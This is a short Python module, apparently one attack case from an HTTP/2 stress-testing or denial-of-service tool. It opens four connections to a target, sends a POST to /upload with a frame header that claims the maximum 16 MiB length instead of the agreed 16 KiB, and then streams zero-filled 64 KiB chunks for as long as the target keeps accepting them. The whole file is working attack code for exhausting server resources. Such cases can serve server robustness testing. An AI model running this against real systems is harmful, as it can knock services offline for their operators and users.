"""Frames that claim the most that a length can say, 16 MiB, beyond the 16 KiB that were agreed."""

from wire.http2 import ask, http2


async def attack(target):
    async def lane(number):
        async with http2(target, target.source(number)) as it:
            if it:
                await it.send(ask(1, b"POST", b"/upload") + b"\xff\xff\xff\0\0\0\0\0\x01")
            while it and target.goes_on():
                await it.send(bytes(65536))

    await target.lanes(4, lane)
